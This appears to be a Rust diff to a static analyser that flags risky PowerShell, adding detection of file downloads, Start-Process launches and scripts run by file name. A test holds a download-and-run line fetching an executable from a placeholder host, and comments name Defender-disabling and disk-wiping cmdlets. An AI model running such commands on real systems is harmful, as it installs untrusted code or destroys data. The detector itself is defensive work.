@@ -163,6 +163,7 @@ fn statements(text: &str) -> Vec<&str> {
                 // `& $cmd` at a statement's start is PowerShell's call operator.
                 if c == '&' && stmt.trim().is_empty() {
                     k += 1;
+                    start = k;
                     continue;
                 }
                 out.push(stmt);
@@ -201,6 +202,60 @@ fn words(stmt: &str) -> Vec<String> {
         out.push(cur);
     }
     out
+}
+
+/// The value of one of `names` (`-OutFile X`, case-insensitive, abbreviations allowed), or the
+/// first positional argument.
+fn named_or_first(ws: &[String], names: &[&str]) -> Option<String> {
+    let mut first = None;
+    let mut i = 1;
+    while i < ws.len() {
+        let w = ws[i].to_ascii_lowercase();
+        if w.starts_with('-') {
+            if w.len() >= 3 && names.iter().any(|n| n.starts_with(w.as_str())) {
+                return ws.get(i + 1).cloned();
+            }
+            i += 2;
+            continue;
+        }
+        first.get_or_insert_with(|| ws[i].clone());
+        i += 1;
+    }
+    first
+}
+
+/// Files PowerShell downloads: `Invoke-WebRequest URL -OutFile F` (`iwr`, `irm`, and `curl`/
+/// `wget` as its aliases), `Start-BitsTransfer -Source URL -Destination F`,
+/// `(New-Object Net.WebClient).DownloadFile('URL', 'F')`.
+fn downloads(stmt: &str, ws: &[String], r: &mut Report) {
+    static DOWNLOAD_FILE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    let re = DOWNLOAD_FILE.get_or_init(|| {
+        regex::Regex::new(r#"(?i)downloadfile\(\s*["']([^"']+)["']\s*,\s*["']?([^"')]+)"#)
+            .expect("static regex")
+    });
+    for c in re.captures_iter(stmt) {
+        r.downloads
+            .push((windows_path(c[2].trim()), c[1].to_string()));
+    }
+    let Some(first) = ws.first() else { return };
+    let name = first.to_ascii_lowercase();
+    let (url_names, file_names): (&[&str], &[&str]) = match name.as_str() {
+        "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "curl" | "wget" => {
+            (&["-uri"], &["-outfile"])
+        }
+        "start-bitstransfer" => (&["-source"], &["-destination"]),
+        _ => return,
+    };
+    let named = |names: &[&str]| {
+        ws.windows(2).find_map(|w| {
+            let k = w[0].to_ascii_lowercase();
+            (k.len() >= 3 && names.iter().any(|n| n.starts_with(k.as_str()))).then(|| w[1].clone())
+        })
+    };
+    let url = named(url_names).or_else(|| ws.iter().find(|w| w.contains("://")).cloned());
+    if let (Some(url), Some(file)) = (url, named(file_names)) {
+        r.downloads.push((windows_path(&file), url));
+    }
 }
 
 /// A cmd switch (`/s`, `/q`, `/a:h`, `/f`) rather than a path.
@@ -252,18 +307,40 @@ pub(super) fn native(code: &str, r: &mut Report) {
                 }
             }
         }
+        downloads(stmt, &ws, r);
         let Some(first) = ws.first() else { continue };
         let name = program(first);
+        // `Start-Process x.exe -ArgumentList …`: the program it starts runs.
+        if name == "start-process" || name == "saps" {
+            if let Some(file) = named_or_first(&ws, &["-filepath"]) {
+                let argv0 = if file.contains(['/', '\\', '%', '$']) {
+                    windows_path(&file)
+                } else {
+                    program(&file)
+                };
+                r.runs
+                    .push((Run::Argv(vec![argv0]), "Start-Process".into()));
+            }
+            continue;
+        }
         // `New-Partition … | Format-Volume`: formatting the partition just created.
         let fresh = previous == "new-partition" && name == "format-volume";
         previous = name.clone();
         if fresh {
             continue;
         }
-        let explicit_exe = first
-            .to_ascii_lowercase()
-            .trim_matches(['"', '\''])
-            .ends_with(".exe");
+        // A program or script named by its file: `x.exe`, `.\setup.ps1`, `C:\t\run.bat`.
+        let explicit_exe = {
+            let f = first.to_ascii_lowercase();
+            let f = f.trim_matches(['"', '\'']);
+            f.starts_with(".\\")
+                || f.starts_with("./")
+                || [
+                    ".exe", ".ps1", ".bat", ".cmd", ".vbs", ".msi", ".com", ".scr",
+                ]
+                .iter()
+                .any(|e| f.ends_with(e))
+        };
         // `Set-MpPreference -Disable…`, `Clear-Disk -Number 0`: cmdlets whose verb changes
         // something (reading ones such as `Get-ChildItem` have nothing to judge).
         let cmdlet = name.split_once('-').is_some_and(|(verb, noun)| {
@@ -392,6 +469,13 @@ mod tests {
                 "http://x.example/a.exe".to_string()
             )]
         );
+        let mut r2 = Report::default();
+        native(
+            r"iwr https://x.example/s.exe -OutFile $env:TEMP\s.exe; Start-Process $env:TEMP\s.exe",
+            &mut r2,
+        );
+        assert_eq!(r2.downloads[0].0, "/tmp/s.exe");
+        assert!(matches!(&r2.runs[0].0, Run::Argv(a) if a[0] == "/tmp/s.exe"));
         // `rd build` (not recursive) deletes nothing recursively.
         let mut r = Report::default();
         native(r"rd build", &mut r);
